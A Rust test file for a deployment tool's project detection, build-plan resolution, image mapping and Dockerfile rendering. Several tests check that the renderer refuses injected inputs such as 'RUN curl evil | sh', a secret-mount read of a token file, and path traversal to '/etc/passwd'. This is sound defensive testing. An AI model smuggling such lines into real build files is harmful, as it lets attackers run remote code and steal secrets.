//! Zero-config detection, plan resolution, image mapping and Dockerfile rendering.

use std::path::{Path, PathBuf};

use wharf_core::detect::{detect, render_dockerfile, resolve_plan, ImageMap};
use wharf_core::{BuildPlan, BuildSpec, ErrorKind, ProjectKind};

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| (*s).to_owned()).collect()
}

/// Checks every field of a detected plan.
#[track_caller]
fn assert_plan(
    plan: &BuildPlan,
    kind: ProjectKind,
    base: &str,
    install: &[&str],
    build: &[&str],
    start: &[&str],
    port: u16,
) {
    assert_eq!(plan.kind, kind, "kind of {plan:?}");
    assert_eq!(plan.base_image, base, "base image of {plan:?}");
    assert_eq!(plan.install, strings(install), "install of {plan:?}");
    assert_eq!(plan.build, strings(build), "build of {plan:?}");
    assert_eq!(plan.start, strings(start), "start of {plan:?}");
    assert_eq!(plan.port, port, "port of {plan:?}");
}

/// What detection makes of a project with `files`.
fn detected(files: &[(&str, &str)]) -> BuildPlan {
    detect(project(files).path()).unwrap()
}

/// Detection's refusal of a project with `files`, checked to be InvalidInput.
#[track_caller]
fn refused(files: &[(&str, &str)]) -> wharf_core::Error {
    let dir = project(files);
    let err = detect(dir.path()).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput, "{err}");
    err
}

/// A throw-away project folder with the given files.
fn project(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, content) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }
    dir
}

// ------------------------------------------------------------------ fixtures

/// A fixture and what detection must make of it: kind, base image, install, build,
/// start, port.
type FixtureRow = (
    &'static str,
    ProjectKind,
    &'static str,
    &'static [&'static str],
    &'static [&'static str],
    &'static [&'static str],
    u16,
);

/// The base image of Python projects without a version file.
const PY: &str = "python:3.12-slim";
/// The start command of the Node fixtures.
const NODE_SERVER: &[&str] = &["node", "server.js"];

/// Every fixture and what detection must make of it.
const FIXTURES: [FixtureRow; 11] = [
    // Its own Dockerfile wins (the fixture also holds a package.json).
    (
        "dockerfile",
        ProjectKind::Dockerfile,
        PY,
        &[],
        &[],
        &[],
        9000,
    ),
    // engines.node ">=18" gives node 18; no dependencies, so nothing to install;
    // the start script is a plain `node server.js`, run without npm.
    (
        "node",
        ProjectKind::Node,
        "node:18-slim",
        &[],
        &[],
        NODE_SERVER,
        3000,
    ),
    // A lockfile: npm ci; no start script: its main.
    (
        "node-lock",
        ProjectKind::Node,
        "node:20-slim",
        &["npm ci"],
        &[],
        NODE_SERVER,
        3000,
    ),
    // .python-version says 3.11.9; requirements.txt only holds a comment: no pip.
    (
        "python-requirements",
        ProjectKind::Python,
        "python:3.11-slim",
        &[],
        &[],
        &["python3", "app.py"],
        8000,
    ),
    // runtime.txt says python-3.12.4; the package is installed, its script run.
    (
        "python-pyproject",
        ProjectKind::Python,
        PY,
        &["pip install --no-cache-dir ."],
        &[],
        &["hello-server"],
        8000,
    ),
    // Nothing to install.
    (
        "python-app",
        ProjectKind::Python,
        PY,
        &[],
        &[],
        &["python3", "app.py"],
        8000,
    ),
    (
        "python-main",
        ProjectKind::Python,
        PY,
        &[],
        &[],
        &["python3", "main.py"],
        8000,
    ),
    (
        "go",
        ProjectKind::Go,
        "golang:1.22",
        &[],
        &["go build -o /app/server ."],
        &["/app/server"],
        8080,
    ),
    // Built locked, with its lockfile.
    (
        "rust",
        ProjectKind::Rust,
        "rust:1-slim",
        &[],
        &["cargo build --release --locked"],
        &["./target/release/wharf-fixture-rust"],
        8080,
    ),
    // Serves public/.
    (
        "static",
        ProjectKind::Static,
        "busybox:stable",
        &[],
        &[],
        &["httpd", "-f", "-p", "8080", "-h", "/app/public"],
        8080,
    ),
    // The Procfile's web line wins and keeps its port variable.
    (
        "procfile",
        ProjectKind::Python,
        PY,
        &[],
        &[],
        &["sh", "-c", "python3 server.py --port $PORT"],
        8000,
    ),
];

/// What detection makes of each fixture (and only the dockerfile fixture keeps a
/// Dockerfile).
#[test]
fn fixtures_are_detected_as_documented() {
    for (name, kind, base, install, build, start, port) in FIXTURES {
        let plan = detect(&fixture(name)).unwrap();
        assert_plan(&plan, kind, base, install, build, start, port);
        let dockerfile = (kind == ProjectKind::Dockerfile).then_some("Dockerfile");
        assert_eq!(plan.dockerfile.as_deref(), dockerfile, "{name}");
    }
}

#[test]
fn undetectable_fixture_lists_what_was_looked_for() {
    let dir = fixture("undetectable");
    let err = detect(&dir).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput);
    let expected = format!(
        "no Dockerfile, package.json, requirements.txt, pyproject.toml, app.py, main.py, go.mod, Cargo.toml or index.html in {}",
        dir.display()
    );
    assert!(err.message().contains(&expected), "{err}");
}

// ------------------------------------------------------------------ rules

/// Where a fixture holds the marker files of two kinds, the stronger one wins: a
/// Dockerfile over a package.json, a package.json over an index.html.
#[test]
fn the_stronger_marker_file_wins() {
    for (name, weaker, kind) in [
        ("dockerfile", "package.json", ProjectKind::Dockerfile),
        ("node", "index.html", ProjectKind::Node),
    ] {
        assert!(
            fixture(name).join(weaker).is_file(),
            "{name} holds {weaker}"
        );
        assert_eq!(detect(&fixture(name)).unwrap().kind, kind, "{name}");
    }
}

#[test]
fn dockerfile_without_expose_defaults_to_8080_and_skips_from_flags() {
    let plan = detected(&[(
        "Dockerfile",
        "# comment\nfrom --platform=linux/amd64 alpine:3.20 AS base\nFROM base\nCMD [\"true\"]\n",
    )]);
    assert_eq!(plan.base_image, "alpine:3.20");
    assert_eq!(plan.port, 8080);
}

#[test]
fn dockerfile_last_expose_wins() {
    let plan = detected(&[(
        "Dockerfile",
        "FROM nginx:1\nEXPOSE 80\nEXPOSE 8081/tcp 9090\n",
    )]);
    assert_eq!(plan.port, 8081);
}

#[test]
fn node_install_build_and_start_rules() {
    let dir = project(&[
        (
            "package.json",
            r#"{"engines":{"node":"^22.1.0"},"scripts":{"build":"tsc"},"devDependencies":{"typescript":"5"}}"#,
        ),
        ("server.js", ""),
    ]);
    assert_plan(
        &detect(dir.path()).unwrap(),
        ProjectKind::Node,
        "node:22-slim",
        &["npm install"],
        &["npm run build"],
        &["node", "server.js"],
        3000,
    );

    // index.js is preferred over server.js when there is no main.
    let plan = detected(&[
        ("package.json", r#"{"dependencies":{}}"#),
        ("index.js", ""),
        ("server.js", ""),
    ]);
    assert!(
        plan.install.is_empty(),
        "empty dependencies need no install"
    );
    assert_eq!(plan.start, ["node", "index.js"]);
}

#[test]
fn node_start_script_goes_through_npm_unless_plain_node() {
    let start = |package_json: &str| detected(&[("package.json", package_json)]).start;
    assert_eq!(
        start(r#"{"scripts":{"start":"node --enable-source-maps dist/main.js"}}"#),
        ["node", "--enable-source-maps", "dist/main.js"]
    );
    for package_json in [
        r#"{"scripts":{"start":"next start"}}"#,
        r#"{"scripts":{"start":"NODE_ENV=production node server.js"}}"#,
        r#"{"scripts":{"start":"node server.js && echo done"}}"#,
        r#"{"scripts":{"start":"node server.js","prestart":"node migrate.js"}}"#,
    ] {
        assert_eq!(start(package_json), ["npm", "start"], "{package_json}");
    }
}

#[test]
fn malformed_package_json_is_invalid_input_naming_the_file() {
    let err = refused(&[("package.json", "{ \"name\": ")]);
    assert!(err.message().contains("package.json"), "{err}");
    assert!(
        err.message().contains("EOF"),
        "the parse error is kept: {err}"
    );

    let err = refused(&[("package.json", "[1, 2]")]);
    assert!(err.message().contains("not a JSON object"), "{err}");
}

#[test]
fn python_requirements_with_packages_are_installed_with_pip() {
    let dir = project(&[
        ("requirements.txt", "# web\nflask==3.0.3\n"),
        ("main.py", ""),
        ("runtime.txt", "python-3.10.14\n"),
    ]);
    assert_plan(
        &detect(dir.path()).unwrap(),
        ProjectKind::Python,
        "python:3.10-slim",
        &["pip install --no-cache-dir -r requirements.txt"],
        &[],
        &["python3", "main.py"],
        8000,
    );
}

#[test]
fn python_without_entry_point_or_procfile_is_refused() {
    let err = refused(&[("requirements.txt", "flask\n")]);
    assert!(err.message().contains("Procfile"), "{err}");

    // ... but a Procfile makes it startable.
    let dir = project(&[
        ("requirements.txt", "gunicorn\n"),
        ("Procfile", "web: gunicorn app:app\n"),
    ]);
    assert_eq!(detect(dir.path()).unwrap().start, ["gunicorn", "app:app"]);
}

#[test]
fn procfile_wins_for_any_kind_but_dockerfile() {
    let dir = project(&[
        ("package.json", r#"{"scripts":{"start":"node a.js"}}"#),
        ("Procfile", "worker: node worker.js\nweb: node web.js\n"),
    ]);
    assert_eq!(detect(dir.path()).unwrap().start, ["node", "web.js"]);

    let dir = project(&[("Dockerfile", "FROM busybox\n"), ("Procfile", "web: x\n")]);
    assert!(detect(dir.path()).unwrap().start.is_empty());
}

#[test]
fn procfile_process_types_become_the_plans_processes() {
    let procfile = "# the app's processes\n\nweb: node web.js\nrelease: node migrate.js && node seed.js\nworker:   node worker.js --queue=mail\n";
    let plan = detected(&[
        ("package.json", r#"{"scripts":{"start":"node a.js"}}"#),
        ("Procfile", procfile),
    ]);
    assert_eq!(plan.start, ["node", "web.js"]);
    assert_eq!(plan.processes.len(), 2, "{:?}", plan.processes);
    assert_eq!(
        plan.processes["release"],
        ["sh", "-c", "node migrate.js && node seed.js"]
    );
    assert_eq!(
        plan.processes["worker"],
        ["node", "worker.js", "--queue=mail"]
    );
    // A Dockerfile's app may declare them too.
    let dir = project(&[
        ("Dockerfile", "FROM busybox\n"),
        ("Procfile", "release: ./migrate\n"),
    ]);
    assert_eq!(
        detect(dir.path()).unwrap().processes["release"],
        ["./migrate"]
    );

    for (bad, says) in [
        ("web node web.js\n", "line 1"),
        ("web: a\nWeb Worker: b\n", "line 2"),
        ("worker: a\nworker: b\n", "defined twice"),
        ("release:\n", "empty"),
    ] {
        let err = refused(&[("package.json", "{}"), ("Procfile", bad)]);
        assert!(err.to_string().contains(says), "{bad:?}: {err}");
    }
}

#[test]
fn rust_without_lockfile_builds_unlocked_and_workspace_is_refused() {
    let plan = detected(&[(
        "Cargo.toml",
        "[package]\nname = \"demo-app\"\nversion = \"0.1.0\"\n",
    )]);
    assert_eq!(plan.build, ["cargo build --release"]);
    assert_eq!(plan.start, ["./target/release/demo-app"]);

    refused(&[("Cargo.toml", "[workspace]\nmembers = [\"a\"]\n")]);
}

#[test]
fn static_root_and_dist() {
    let dir = project(&[("index.html", "<h1>hi</h1>")]);
    assert_eq!(
        detect(dir.path()).unwrap().start,
        ["httpd", "-f", "-p", "8080", "-h", "/app"]
    );
    let dir = project(&[("dist/index.html", "<h1>hi</h1>")]);
    assert_eq!(
        detect(dir.path()).unwrap().start,
        ["httpd", "-f", "-p", "8080", "-h", "/app/dist"]
    );
}

#[test]
fn missing_dir_is_not_found_and_file_is_invalid() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("nope");
    assert_eq!(detect(&missing).unwrap_err().kind(), ErrorKind::NotFound);
    let file = dir.path().join("file");
    std::fs::write(&file, "").unwrap();
    assert_eq!(detect(&file).unwrap_err().kind(), ErrorKind::InvalidInput);
}

// ------------------------------------------------------------------ resolve_plan

#[test]
fn resolve_auto_detects_and_port_overrides() {
    let plan = resolve_plan(&BuildSpec::Auto, None, &fixture("python-app")).unwrap();
    assert_eq!(plan.port, 8000);
    let plan = resolve_plan(&BuildSpec::Auto, Some(5000), &fixture("python-app")).unwrap();
    assert_eq!(plan.kind, ProjectKind::Python);
    assert_eq!(plan.port, 5000);
}

#[test]
fn resolve_port_override_moves_static_httpd_port() {
    let plan = resolve_plan(&BuildSpec::Auto, Some(8081), &fixture("static")).unwrap();
    assert_eq!(plan.port, 8081);
    assert_eq!(
        plan.start,
        ["httpd", "-f", "-p", "8081", "-h", "/app/public"]
    );
}

#[test]
fn resolve_port_zero_is_refused() {
    let err = resolve_plan(&BuildSpec::Auto, Some(0), &fixture("go")).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput);
}

#[test]
fn resolve_dockerfile_path() {
    let dir = project(&[
        ("docker/Dockerfile.prod", "FROM node:20-slim\nEXPOSE 4000\n"),
        ("package.json", "{}"),
    ]);
    let spec = BuildSpec::Dockerfile {
        path: "./docker/Dockerfile.prod".into(),
    };
    let plan = resolve_plan(&spec, None, dir.path()).unwrap();
    assert_eq!(plan.kind, ProjectKind::Dockerfile);
    assert_eq!(plan.dockerfile.as_deref(), Some("docker/Dockerfile.prod"));
    assert_eq!(plan.base_image, "node:20-slim");
    assert_eq!(plan.port, 4000);

    let plan = resolve_plan(&spec, Some(4001), dir.path()).unwrap();
    assert_eq!(plan.port, 4001);

    let missing = BuildSpec::Dockerfile {
        path: "Dockerfile".into(),
    };
    assert_eq!(
        resolve_plan(&missing, None, dir.path()).unwrap_err().kind(),
        ErrorKind::NotFound
    );
}

#[test]
fn resolve_dockerfile_path_traversal_is_refused() {
    let outer = project(&[("Dockerfile", "FROM busybox\n"), ("src/app.py", "")]);
    let dir = outer.path().join("src");
    for path in [
        "../Dockerfile",
        "sub/../../Dockerfile",
        "/etc/passwd",
        "",
        ".",
    ] {
        let spec = BuildSpec::Dockerfile { path: path.into() };
        let err = resolve_plan(&spec, None, &dir).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidInput, "{path:?}: {err}");
    }
    // The same check applies to an explicit plan of kind Dockerfile.
    let plan = BuildPlan {
        processes: Default::default(),
        kind: ProjectKind::Dockerfile,
        base_image: "busybox".into(),
        install: vec![],
        build: vec![],
        start: vec![],
        port: 8080,
        dockerfile: Some("../Dockerfile".into()),
    };
    let err = resolve_plan(&BuildSpec::Plan { plan }, None, &dir).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput);
}

#[cfg(unix)]
#[test]
fn resolve_dockerfile_symlink_out_of_source_is_refused() {
    let outer = project(&[("Dockerfile", "FROM busybox\n"), ("src/app.py", "")]);
    let dir = outer.path().join("src");
    std::os::unix::fs::symlink(outer.path().join("Dockerfile"), dir.join("Dockerfile")).unwrap();
    let spec = BuildSpec::Dockerfile {
        path: "Dockerfile".into(),
    };
    let err = resolve_plan(&spec, None, &dir).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput, "{err}");
}

#[test]
fn resolve_explicit_plan_is_kept_with_port_override() {
    let plan = BuildPlan {
        processes: Default::default(),
        kind: ProjectKind::Go,
        base_image: "golang:1.23".into(),
        install: vec![],
        build: vec!["go build -o /app/server ./cmd/web".into()],
        start: vec!["/app/server".into()],
        port: 8080,
        dockerfile: None,
    };
    let dir = tempfile::tempdir().unwrap();
    let spec = BuildSpec::Plan { plan: plan.clone() };
    assert_eq!(resolve_plan(&spec, None, dir.path()).unwrap(), plan);
    let resolved = resolve_plan(&spec, Some(9999), dir.path()).unwrap();
    assert_eq!(resolved.port, 9999);
    assert_eq!(resolved.build, plan.build);
}

// ------------------------------------------------------------------ ImageMap

#[test]
fn image_map_exact_match_wins_over_repository() {
    let map = ImageMap::new()
        .with("node", "local/node-any")
        .with("node:20-slim", "local/node20");
    assert_eq!(map.resolve("node:20-slim"), "local/node20");
    assert_eq!(map.resolve("node:18-slim"), "local/node-any");
    assert_eq!(map.resolve("node"), "local/node-any");
    assert_eq!(map.resolve("node@sha256:0123abcd"), "local/node-any");
    assert_eq!(map.resolve("docker.io/library/node:22"), "local/node-any");
}

#[test]
fn image_map_tagged_key_does_not_cover_other_tags_and_unmapped_is_unchanged() {
    let map = ImageMap::new().with("python:3.12-slim", "local/py");
    assert_eq!(map.resolve("python:3.11-slim"), "python:3.11-slim");
    assert_eq!(map.resolve("golang:1.22"), "golang:1.22");
    assert_eq!(map.resolve("nodejs:20"), "nodejs:20");
    // A registry port is not a tag.
    let map = ImageMap::new().with("localhost:5000/node", "local/node");
    assert_eq!(map.resolve("localhost:5000/node:20"), "local/node");
    assert_eq!(ImageMap::new().resolve("busybox:stable"), "busybox:stable");
}

#[test]
fn image_map_parse() {
    let map = ImageMap::parse(
        "node:20-slim=wharf/debian:bookworm, python=wharf/debian:bookworm,busybox=wharf/busybox:latest,",
    )
    .unwrap();
    assert_eq!(map.resolve("node:20-slim"), "wharf/debian:bookworm");
    assert_eq!(map.resolve("python:3.12-slim"), "wharf/debian:bookworm");
    assert_eq!(map.resolve("busybox:stable"), "wharf/busybox:latest");
    assert_eq!(map.resolve("node:18-slim"), "node:18-slim");
    assert!(ImageMap::parse("").unwrap().is_empty());
    // Display gives back the parseable form.
    assert_eq!(ImageMap::parse(&map.to_string()).unwrap(), map);
}

#[test]
fn image_map_parse_errors_name_the_pair() {
    for (input, why) in [
        ("node", "missing '='"),
        ("node=a=b", "more than one '='"),
        ("=local/node", "empty"),
        ("node=", "empty"),
        ("node=local node", "spaces"),
        ("python=ok,broken", "missing '='"),
    ] {
        let err = ImageMap::parse(input).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidInput, "{input}");
        assert!(err.message().contains(why), "{input}: {err}");
        assert!(err.message().contains("from=to"), "{input}: {err}");
    }
}

#[test]
fn image_map_serde_is_a_plain_object() {
    let map = ImageMap::new().with("node", "local/node");
    let json = serde_json::to_string(&map).unwrap();
    assert_eq!(json, r#"{"node":"local/node"}"#);
    let back: ImageMap = serde_json::from_str(&json).unwrap();
    assert_eq!(back, map);
}

// ------------------------------------------------------------------ render_dockerfile

fn local_images() -> ImageMap {
    ImageMap::parse("node=wharf/debian:bookworm,python=wharf/debian:bookworm,busybox=wharf/busybox")
        .unwrap()
}

fn lines(text: &str) -> Vec<&str> {
    text.lines().collect()
}

/// The Dockerfile rendered from what is detected in `dir`, line by line.
fn rendered(dir: &Path, images: &ImageMap, build: &[&str]) -> Vec<String> {
    let mut plan = detect(dir).unwrap();
    if !build.is_empty() {
        plan.build = strings(build);
    }
    let text = render_dockerfile(&plan, images).unwrap();
    text.lines().map(str::to_owned).collect()
}

/// Whole Dockerfiles: the base image from the image map, dependency manifests copied
/// and installed before the code (so the install layer is cached), then the code, the
/// build, the port and the start command (nothing to install without dependencies).
#[test]
fn render_whole_dockerfiles() {
    let requirements = project(&[("requirements.txt", "flask\n"), ("app.py", "")]);
    let rows: [(PathBuf, ImageMap, &[&str], &[&str]); 5] = [
        (
            fixture("python-app"),
            local_images(),
            &[],
            &[
                "FROM wharf/debian:bookworm",
                "WORKDIR /app",
                "COPY . /app",
                "ENV PORT=8000",
                "EXPOSE 8000",
                r#"CMD ["python3","app.py"]"#,
            ],
        ),
        (
            requirements.path().to_owned(),
            ImageMap::new(),
            &[],
            &[
                "FROM python:3.12-slim",
                "WORKDIR /app",
                "COPY requirements*.txt /app/",
                "RUN pip install --no-cache-dir -r requirements.txt",
                "COPY . /app",
                "ENV PORT=8000",
                "EXPOSE 8000",
                r#"CMD ["python3","app.py"]"#,
            ],
        ),
        // With a lockfile: installed before copying the code, built after.
        (
            fixture("node-lock"),
            local_images(),
            &["npm run build"],
            &[
                "FROM wharf/debian:bookworm",
                "WORKDIR /app",
                "COPY package*.json /app/",
                "RUN npm ci",
                "COPY . /app",
                "RUN npm run build",
                "ENV PORT=3000",
                "EXPOSE 3000",
                r#"CMD ["node","server.js"]"#,
            ],
        ),
        (
            fixture("node"),
            ImageMap::new(),
            &[],
            &[
                "FROM node:18-slim",
                "WORKDIR /app",
                "COPY . /app",
                "ENV PORT=3000",
                "EXPOSE 3000",
                r#"CMD ["node","server.js"]"#,
            ],
        ),
        (
            fixture("static"),
            local_images(),
            &[],
            &[
                "FROM wharf/busybox",
                "WORKDIR /app",
                "COPY . /app",
                "ENV PORT=8080",
                "EXPOSE 8080",
                r#"CMD ["httpd","-f","-p","8080","-h","/app/public"]"#,
            ],
        ),
    ];
    for (dir, images, build, want) in rows {
        assert_eq!(rendered(&dir, &images, build), want, "{}", dir.display());
    }
}

#[test]
fn render_procfile_runs_through_sh() {
    let plan = detect(&fixture("procfile")).unwrap();
    let text = render_dockerfile(&plan, &local_images()).unwrap();
    assert_eq!(
        lines(&text).last().copied(),
        Some(r#"CMD ["sh","-c","python3 server.py --port $PORT"]"#)
    );
}

#[test]
fn render_go_and_rust_build_steps() {
    let text = render_dockerfile(&detect(&fixture("go")).unwrap(), &ImageMap::new()).unwrap();
    assert!(
        text.contains("\nCOPY . /app\nRUN go build -o /app/server .\n"),
        "{text}"
    );
    assert!(text.ends_with("CMD [\"/app/server\"]\n"), "{text}");
    let text = render_dockerfile(&detect(&fixture("rust")).unwrap(), &ImageMap::new()).unwrap();
    assert!(text.starts_with("FROM rust:1-slim\n"), "{text}");
    assert!(
        text.contains("RUN cargo build --release --locked\n"),
        "{text}"
    );
    assert!(
        text.ends_with("CMD [\"./target/release/wharf-fixture-rust\"]\n"),
        "{text}"
    );
}

fn plan_with(start: &[&str]) -> BuildPlan {
    BuildPlan {
        processes: Default::default(),
        kind: ProjectKind::Python,
        base_image: "python:3.12-slim".into(),
        install: vec![],
        build: vec![],
        start: strings(start),
        port: 8000,
        dockerfile: None,
    }
}

#[test]
fn render_start_command_forms_and_json_escaping() {
    let cmd = |start: &[&str]| {
        let text = render_dockerfile(&plan_with(start), &ImageMap::new()).unwrap();
        lines(&text).last().unwrap().to_string()
    };
    // One plain command line is split.
    assert_eq!(cmd(&["python3  app.py"]), r#"CMD ["python3","app.py"]"#);
    // Shell syntax runs through sh -c, JSON-escaped.
    assert_eq!(
        cmd(&[r#"echo "hi \ there" && python3 app.py"#]),
        r#"CMD ["sh","-c","echo \"hi \\ there\" && python3 app.py"]"#
    );
    // Several elements are argv as is, escaped.
    assert_eq!(
        cmd(&["python3", "-c", "print(\"a b\")"]),
        r#"CMD ["python3","-c","print(\"a b\")"]"#
    );
}

#[test]
fn render_refuses_newline_injection() {
    let mut plan = plan_with(&["python3 app.py\nUSER root"]);
    let err = render_dockerfile(&plan, &ImageMap::new()).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput);

    plan.start = strings(&["python3", "app.py\r\nRUN curl evil"]);
    let err = render_dockerfile(&plan, &ImageMap::new()).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput);

    plan.start = strings(&["python3 app.py"]);
    for bad in [
        "pip install x\nRUN curl evil | sh",
        "pip install x \\",
        "--mount=type=secret,id=token cat /run/secrets/token",
        "cat <<EOF",
        "  ",
    ] {
        let mut p = plan.clone();
        p.install = vec![bad.into()];
        let err = render_dockerfile(&p, &ImageMap::new()).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidInput, "install {bad:?}");
        let mut p = plan.clone();
        p.build = vec![bad.into()];
        let err = render_dockerfile(&p, &ImageMap::new()).unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidInput, "build {bad:?}");
    }

    // The base image (after mapping too) cannot smuggle instructions either.
    plan.base_image = "python:3.12-slim\nRUN curl evil".into();
    assert_eq!(
        render_dockerfile(&plan, &ImageMap::new())
            .unwrap_err()
            .kind(),
        ErrorKind::InvalidInput
    );
    plan.base_image = "python:3.12-slim".into();
    let images = ImageMap::new().with("python", "debian AS x");
    assert_eq!(
        render_dockerfile(&plan, &images).unwrap_err().kind(),
        ErrorKind::InvalidInput
    );
}

#[test]
fn render_refuses_dockerfile_kind_and_missing_start() {
    let plan = detect(&fixture("dockerfile")).unwrap();
    let err = render_dockerfile(&plan, &ImageMap::new()).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Unsupported);
    assert!(err.message().contains("used as is"), "{err}");

    let err = render_dockerfile(&plan_with(&[]), &ImageMap::new()).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput);
}

#[test]
fn files_linked_from_outside_the_source_are_never_read() {
    // A secret of the control plane's beside the checkout, as `data_dir/admin-token`.
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("admin-token");
    std::fs::write(&secret, "wharf_s3cr3t-token-0123\n").unwrap();
    for name in [
        "Procfile",
        ".python-version",
        "requirements.txt",
        "package.json",
    ] {
        let dir = project(&[("app.py", "print('hi')\n")]);
        std::os::unix::fs::symlink(&secret, dir.path().join(name)).unwrap();
        let err = detect(dir.path()).expect_err(name);
        let text = err.to_string();
        assert!(text.contains("leading out of the source"), "{name}: {text}");
        assert!(!text.contains("s3cr3t"), "{name} leaked: {text}");
    }
    // A link inside the source is fine.
    let dir = project(&[
        ("app.py", "print('hi')\n"),
        (
            "deploy/Procfile",
            "web: python3 app.py\nrelease: python3 migrate.py\n",
        ),
    ]);
    std::os::unix::fs::symlink("deploy/Procfile", dir.path().join("Procfile")).unwrap();
    assert_eq!(
        detect(dir.path()).unwrap().processes["release"],
        ["python3", "migrate.py"]
    );
    // A bad line is named by its number, never repeated.
    let err = refused(&[("app.py", ""), ("Procfile", "wharf_s3cr3t-token-0123\n")]);
    assert!(err.to_string().contains("Procfile line 1"), "{err}");
    assert!(!err.to_string().contains("s3cr3t"), "{err}");
    // At most 16 process types.
    let many: String = (0..17).map(|i| format!("w{i}: sleep 1\n")).collect();
    let err = refused(&[("app.py", ""), ("Procfile", &many)]);
    assert!(
        err.to_string().contains("more than 16 process types"),
        "{err}"
    );
}
